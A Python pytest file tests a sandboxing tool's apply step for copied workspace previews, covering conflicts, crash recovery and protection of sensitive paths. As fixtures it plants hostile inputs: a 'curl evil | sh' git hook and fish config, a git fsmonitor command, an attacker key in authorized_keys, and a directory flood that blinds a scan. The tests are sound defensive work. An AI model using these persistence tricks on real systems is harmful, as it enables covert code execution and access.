"""Apply, conflicts, protection and discard on copy-mechanism previews (no sandbox needed).

A copy preview's tree is what the sandboxed command would write; these tests
write it directly, then check what apply does to the real workspace.
"""

from __future__ import annotations

import os

import pytest

from corral._exceptions import ApplyConflict, PreviewError
from corral.preview import Preview
from corral.preview import _apply as apply_module
from tests.tree_listing import tree


def write(path, data="x", mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(data)
    os.chmod(path, mode)


@pytest.fixture
def world(tmp_path):
    ws, state = tmp_path / "ws", tmp_path / "state"
    ws.mkdir()
    write(f"{ws}/keep.txt", "keep\n")
    write(f"{ws}/edit.txt", "old\n")
    write(f"{ws}/gone/inner.txt", "inner\n")
    write(f"{ws}/mode.sh", "echo\n", 0o644)
    os.symlink("keep.txt", f"{ws}/link")
    return str(ws), str(state)


def copy_preview(ws, state):
    preview = Preview.create(ws, state_dir=state, mechanism="copy")
    return preview, os.path.join(preview.path, "tree")


def command_changes(t):
    """What a sandboxed command would do, done to the copy."""
    write(f"{t}/edit.txt", "new\n")
    write(f"{t}/added/deep/file.txt", "added\n")
    os.unlink(f"{t}/gone/inner.txt")
    os.rmdir(f"{t}/gone")
    os.chmod(f"{t}/mode.sh", 0o755)
    os.unlink(f"{t}/link")
    os.symlink("edit.txt", f"{t}/link")


def test_apply_makes_the_workspace_the_tree_the_command_saw(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    before = tree(ws)
    command_changes(t)
    assert tree(ws) == before  # nothing lands before apply
    expected = tree(t)
    result = preview.apply()
    assert tree(ws) == expected
    assert result.preview_removed
    assert not os.path.exists(preview.path)
    assert set(result.applied) == {
        "edit.txt",
        "added",
        "added/deep",
        "added/deep/file.txt",
        "gone",
        "gone/inner.txt",
        "mode.sh",
        "link",
    }


def test_refuses_a_file_edited_in_the_workspace_since_the_preview_began(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    command_changes(t)
    write(f"{ws}/edit.txt", "the user's edit\n")
    with pytest.raises(ApplyConflict) as info:
        preview.apply()
    assert info.value.paths == ("edit.txt",)
    with open(f"{ws}/edit.txt") as f:
        assert f.read() == "the user's edit\n"  # nothing was written
    assert not os.path.exists(f"{ws}/added")


def test_refuses_a_file_deleted_or_created_in_the_workspace(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    command_changes(t)
    os.unlink(f"{ws}/mode.sh")
    write(f"{ws}/added/deep/file.txt", "the user made this too\n")
    with pytest.raises(ApplyConflict) as info:
        preview.apply()
    assert set(info.value.paths) == {"mode.sh", "added/deep/file.txt"}


def test_skip_conflicts_applies_the_rest_and_keeps_the_preview(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    command_changes(t)
    write(f"{ws}/edit.txt", "the user's edit\n")
    result = preview.apply(skip_conflicts=True)
    assert result.skipped_conflicts == ("edit.txt",)
    assert not result.preview_removed
    with open(f"{ws}/edit.txt") as f:
        assert f.read() == "the user's edit\n"
    with open(f"{ws}/added/deep/file.txt") as f:
        assert f.read() == "added\n"
    # what is left to apply is exactly the conflict
    assert [c.path for c in Preview.open(preview.id, state_dir=state).changes()] == ["edit.txt"]


def test_force_overwrites_the_conflict(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    command_changes(t)
    write(f"{ws}/edit.txt", "the user's edit\n")
    expected = tree(t)
    preview.apply(force=True)
    assert tree(ws) == expected


def test_refuses_protected_paths_unless_named(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    write(f"{t}/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    write(f"{t}/sub/.bashrc", "alias ls=evil\n")
    write(f"{t}/ok.txt", "fine\n")
    with pytest.raises(PreviewError, match="protected paths") as info:
        preview.apply()
    assert ".git/hooks/pre-commit" in info.value.message
    assert "sub/.bashrc" in info.value.message
    assert not os.path.exists(f"{ws}/ok.txt")  # all or nothing
    with pytest.raises(PreviewError, match=r"sub/\.bashrc"):
        preview.apply(allow_protected=(".git/hooks",))
    preview.apply(allow_protected=(".git/hooks", "sub/.bashrc"))
    assert os.path.exists(f"{ws}/.git/hooks/pre-commit")
    assert os.path.exists(f"{ws}/sub/.bashrc")


def test_extra_protection_patterns_apply(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    write(f"{t}/secrets/key.pem", "k")
    with pytest.raises(PreviewError, match=r"filesystem\.denyWrite"):
        preview.apply(protect=[("**/*.pem", "filesystem.denyWrite: **/*.pem")])


def test_refuses_set_id_bits(world):
    ws, state = world
    preview, t = copy_preview(ws, state)
    write(f"{t}/suid", "x", 0o4755)
    with pytest.raises(PreviewError, match="set-user-ID"):
        preview.apply()


def test_discard_leaves_nothing_in_the_state_dir(world):
    ws, state = world
    before = tree(ws)
    preview, t = copy_preview(ws, state)
    command_changes(t)
    preview.discard()
    assert os.listdir(os.path.join(state, "previews")) == []
    assert not os.path.exists(os.path.join(state, "apply-journals"))
    assert tree(ws) == before
    with pytest.raises(PreviewError):
        Preview.open(preview.id, state_dir=state)


def test_a_held_preview_refuses_a_second_user(world):
    ws, state = world
    preview, _t = copy_preview(ws, state)
    with preview.hold(), pytest.raises(PreviewError, match="another corral command"):
        preview.apply()


def test_refuses_a_state_dir_inside_the_workspace(tmp_path):
    with pytest.raises(PreviewError, match="overlaps"):
        Preview.create(str(tmp_path), state_dir=str(tmp_path / "state"), mechanism="copy")


def test_open_rejects_ids_that_are_not_preview_ids(world):
    _ws, state = world
    with pytest.raises(PreviewError):
        Preview.open("../../etc", state_dir=state)


def test_an_apply_killed_after_the_journal_is_completed_by_the_next_lookup(world, monkeypatch):
    ws, state = world
    preview, t = copy_preview(ws, state)
    command_changes(t)

    class Killed(BaseException):
        pass

    renames = []

    def fault(label):
        if label.endswith("-rename"):
            renames.append(label)
            if len(renames) == 2:
                raise Killed  # the second file was not renamed into place yet

    monkeypatch.setattr(apply_module, "FAULT_HOOK", fault)
    expected = tree(t)
    with pytest.raises(Killed):
        preview.apply()
    monkeypatch.setattr(apply_module, "FAULT_HOOK", None)
    assert os.listdir(os.path.join(state, "apply-journals")) == [f"{preview.id}.json"]
    assert (
        Preview.list(state_dir=state) == []
    )  # the lookup completed the apply, which removed the preview
    assert tree(ws) == expected
    assert os.listdir(os.path.join(state, "apply-journals")) == []


def test_apply_quarantines_planted_git_inputs(world, tmp_path):
    import shutil
    import subprocess

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    ws, state = world
    preview, t = copy_preview(ws, state)
    marker = str(tmp_path / "PWNED")
    # a bare-shaped repository under an unprotected name (no protect row covers it)
    os.makedirs(f"{t}/evil/objects")
    os.makedirs(f"{t}/evil/refs")
    write(f"{t}/evil/HEAD", "ref: refs/heads/main\n")
    write(f"{t}/evil/config", f'[core]\n\tbare = false\n\tfsmonitor = "touch {marker}; false"\n')
    result = preview.apply()
    assert [p for p, _ in result.quarantined] == [f"{ws}/evil/config"]
    assert os.path.exists(f"{ws}/evil/config.corral-quarantined")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "status"], cwd=f"{ws}/evil", env=env, capture_output=True, check=False)
    assert not os.path.exists(marker)


def test_refuses_what_a_pattern_protects_from_above_the_workspace(tmp_path):
    """A preview of a workspace at ``home/.config`` (a nested repository there is the
    workspace of a command started in it): ``fish/config.fish`` is ``**/.config/fish/**``
    matched against the whole path (docs/threat-model.md, "A root never hides a protection
    above it")."""
    ws = tmp_path / "home" / ".config"
    ws.mkdir(parents=True)
    write(f"{ws}/keep.txt", "keep\n")
    preview, t = copy_preview(str(ws), str(tmp_path / "state"))
    write(f"{t}/fish/config.fish", "curl evil | sh\n")
    write(f"{t}/nvim/init.lua", "-- fine\n")
    with pytest.raises(PreviewError, match="protected paths") as info:
        preview.apply()
    assert "fish/config.fish" in info.value.message
    assert "nvim/init.lua" not in info.value.message
    assert not os.path.exists(f"{ws}/fish")


def test_refuses_a_protected_directory_replaced_by_a_link(world):
    """``DIR/**`` also covers ``DIR``, as in the write broker: a ``.claude`` that is a
    symlink to a payload directory would load its settings and hooks."""
    ws, state = world
    preview, t = copy_preview(ws, state)
    os.symlink("/var/tmp/payload", f"{t}/.claude")
    with pytest.raises(PreviewError, match="protected paths") as info:
        preview.apply()
    assert ".claude" in info.value.message
    assert not os.path.lexists(f"{ws}/.claude")


def _host_git(ws, home, *args):
    import subprocess

    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
    }
    return subprocess.run(["git", *args], cwd=ws, env=env, capture_output=True, check=False)


def test_refuses_what_the_workspaces_git_config_runs_as_code(world, tmp_path):
    """ATK18: the write broker protects what a trusted git config names as code
    (``core.hooksPath = tools/githooks``); apply - the only gate for what a VM guest wrote
    into its preview - lands ``tools/githooks/pre-commit`` and the user's next ``git
    commit`` runs it."""
    import shutil

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    ws, state = world
    assert _host_git(ws, tmp_path, "init", "-q").returncode == 0
    assert _host_git(ws, tmp_path, "config", "core.hooksPath", "tools/githooks").returncode == 0
    preview, t = copy_preview(ws, state)
    marker = str(tmp_path / "PWNED")
    write(f"{t}/tools/githooks/pre-commit", f"#!/bin/sh\ntouch {marker}\n", 0o755)
    try:
        preview.apply()
    except PreviewError:
        pass
    _host_git(ws, tmp_path, "commit", "-q", "--allow-empty", "-m", "next")
    assert not os.path.exists(marker), "apply landed the hooks path's payload; git ran it"
    assert not os.path.exists(f"{ws}/tools/githooks/pre-commit")


def test_refuses_what_an_absolute_deny_write_covers_below_it(world):
    """ATK18: a ``filesystem.denyWrite`` of an absolute path covers it and everything below
    it in the write broker (``backends.base.broker_patterns``: ``P`` and ``P/**``); apply's
    patterns take it as one name, so a change below it lands."""
    from corral.policy._model import FilesystemPolicy, Policy
    from corral.preview._preview import _policy_patterns

    ws, state = world
    write(f"{ws}/vendor/lib.js", "trusted\n")
    policy = Policy(filesystem=FilesystemPolicy(workspace=ws, deny_write=(f"{ws}/vendor",)))
    preview, t = copy_preview(ws, state)
    write(f"{t}/vendor/lib.js", "payload\n")
    with pytest.raises(PreviewError, match="protected paths"):
        preview.apply(protect=_policy_patterns(policy, ws))
    with open(f"{ws}/vendor/lib.js") as f:
        assert f.read() == "trusted\n"


def test_refuses_to_write_a_secret_path_inside_the_workspace(tmp_path):
    """ATK18: the write broker refuses creating, replacing or deleting a ``denyRead`` path
    inside a writable root (``broker_patterns``); apply's patterns hold no ``denyRead``
    rows, so what a VM guest wrote there - ``.ssh/authorized_keys`` of a home workspace -
    lands on the host."""
    from corral.policy._model import FilesystemPolicy, Policy
    from corral.preview._preview import _policy_patterns

    ws = tmp_path / "home"
    write(f"{ws}/.ssh/id_ed25519", "secret\n", 0o600)
    write(f"{ws}/notes.txt", "x\n")
    policy = Policy(
        filesystem=FilesystemPolicy(
            workspace=str(ws), allow_home_workspace=True, deny_read=(f"{ws}/.ssh",)
        )
    )
    preview, t = copy_preview(str(ws), str(tmp_path / "state"))
    write(f"{t}/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n")
    with pytest.raises(PreviewError, match="protected paths"):
        preview.apply(protect=_policy_patterns(policy, str(ws)))
    assert not os.path.exists(f"{ws}/.ssh/authorized_keys")


def test_a_preview_cannot_starve_the_walk_for_nested_repositories(world, tmp_path, monkeypatch):
    """ATK19: apply takes the code paths of the workspace's nested repositories from a walk
    that stops, silently, after 100,000 directories (``nested_work_trees``). One apply lands
    100,000 empty directories in a directory listed before the nested repository ``app``;
    the next lands ``shared-hooks/pre-commit`` (``app``'s ``core.hooksPath``), and the
    user's next ``git commit`` in ``app`` runs it."""
    import shutil

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    ws, state = world
    limit = 2000  # CORRAL_NESTED_SCAN_LIMIT: the same attack as with the default 100,000
    monkeypatch.setenv("CORRAL_NESTED_SCAN_LIMIT", str(limit))
    app = f"{ws}/app"
    os.makedirs(app)
    assert _host_git(app, tmp_path, "init", "-q").returncode == 0
    assert _host_git(app, tmp_path, "config", "core.hooksPath", "../shared-hooks").returncode == 0
    write(f"{ws}/shared-hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
    preview, t = copy_preview(ws, state)
    for i in range(500):
        os.mkdir(f"{t}/c{i}")
        os.mkdir(f"{ws}/c{i}")  # (only to learn the workspace's listing order)
        names = os.listdir(ws)
        os.rmdir(f"{ws}/c{i}")
        if names.index(f"c{i}") < names.index("app"):
            break
        os.rmdir(f"{t}/c{i}")
    for k in range(limit):
        os.mkdir(f"{t}/c{i}/{k}")
    preview.apply()
    preview, t = copy_preview(ws, state)
    marker = str(tmp_path / "PWNED")
    write(f"{t}/shared-hooks/pre-commit", f"#!/bin/sh\ntouch {marker}\n", 0o755)
    try:
        preview.apply()
    except PreviewError:
        pass
    _host_git(app, tmp_path, "commit", "-q", "--allow-empty", "-m", "next")
    assert not os.path.exists(marker), "apply landed app's hooks path; git ran it"
